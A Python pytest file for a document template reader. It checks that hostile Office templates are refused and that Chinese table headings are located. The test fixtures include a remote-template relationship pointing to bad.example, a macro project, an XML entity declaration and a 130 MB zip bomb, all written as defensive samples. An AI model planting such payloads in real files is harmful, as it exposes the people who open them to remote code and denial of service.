"""Headings are found whatever stands above them, and hostile templates are refused with one sentence."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import Workbook

from exporters.filling import template
from exporters.sentences import sentence
from forms.errors import UserError
from tests.exporters.filling import templates

W = templates.W
PLAIN = f"<w:document xmlns:w='{W}'><w:body><w:p/></w:body></w:document>"
FETCHING = (
    "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'><Relationship Id='r' "
    "Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' "
    "Target='http://bad.example/t.dotm' TargetMode='External'/></Relationships>"
)


def bomb() -> bytes:
    return templates.word(PLAIN, **{"word/media/big.xml": b"\0" * 130_000_000})


def broken() -> bytes:
    return templates.street()[:-200]


REFUSED = [
    ("a.xlsm", templates.street, "FILL_006"),
    ("a.docx", lambda: templates.word(PLAIN, **{"word/vbaProject.bin": b"x"}), "FILL_006"),
    ("a.docx", lambda: templates.word("<!DOCTYPE a [<!ENTITY b 'c'>]>" + PLAIN), "FILL_005"),
    ("a.docx", lambda: templates.word(PLAIN, **{"word/_rels/settings.xml.rels": FETCHING}), "FILL_005"),
    ("a.docx", bomb, "FILL_004"),
    ("a.xlsx", broken, "FILL_003"),
    ("a.docx", lambda: templates.word("<w:document"), "FILL_003"),
    ("a.docx", lambda: templates.word(PLAIN), "FILL_008"),
    ("a.pdf", lambda: b"%PDF-1.7 ...", "FILL_001"),
    ("a.xlsx", lambda: b"", "FILL_001"),
    ("a.xlsx", lambda: templates.saved(Workbook()), "FILL_008"),
]


@pytest.mark.parametrize(
    ("file", "make", "code"), REFUSED, ids=[f"{n}-{code}" for n, (_, _, code) in enumerate(REFUSED)]
)
def test_a_hostile_or_useless_template_is_refused_with_one_sentence(file: str, make, code: str) -> None:
    with pytest.raises(UserError) as refused:
        template.read(make(), file=file)
    assert refused.value.code == code
    for language in ("zh", "en"):
        assert file in sentence(refused.value, language)


def test_a_workbook_with_strange_parts_is_refused_not_a_crash() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(templates.street())) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            new.writestr(name, b"<x/>" if name == "xl/worksheets/sheet1.xml" else old.read(name))
    with pytest.raises(UserError) as refused:
        template.read(out.getvalue(), file="a.xlsx")
    assert refused.value.code in ("FILL_003", "FILL_008")


def test_headings_without_merged_cells_are_found_below_a_line_to_fill_in() -> None:
    book = Workbook()
    sheet = book.active
    sheet.append(["某某问题汇总表"])
    sheet.append(["填报单位：", None, "填报日期：", None])
    sheet.append(["序号", "地点", "整改", None, None])
    sheet.append([None, None, "责任人", "完成时间", "进度"])
    (table,) = template.read(templates.saved(book), file="a.xlsx").tables
    assert table.first_row == 5
    assert [one.words[-1] for one in table.headings] == ["序号", "地点", "责任人", "完成时间", "进度"]


def test_a_word_table_with_merged_headings_is_read_like_a_sheet() -> None:
    def row(*cells: str) -> str:
        return f"<w:tr>{''.join(cells)}</w:tr>"

    down, goes_on = "<w:vMerge w:val='restart'/>", "<w:vMerge/>"
    body = (
        row(templates._cell("序号", more=down), templates._cell("整改情况", more="<w:gridSpan w:val='2'/>"))
        + row(templates._cell("", more=goes_on), templates._cell("责任人"), templates._cell("完成时间"))
        + row(*(templates._cell("") for _ in range(3)))
    )
    data = templates.word(f"<w:document xmlns:w='{W}'><w:body><w:tbl>{body}</w:tbl></w:body></w:document>")
    (table,) = template.read(data, file="a.docx").tables
    assert table.first_row == 3
    assert [one.words for one in table.headings] == [("序号",), ("整改情况", "责任人"), ("整改情况", "完成时间")]
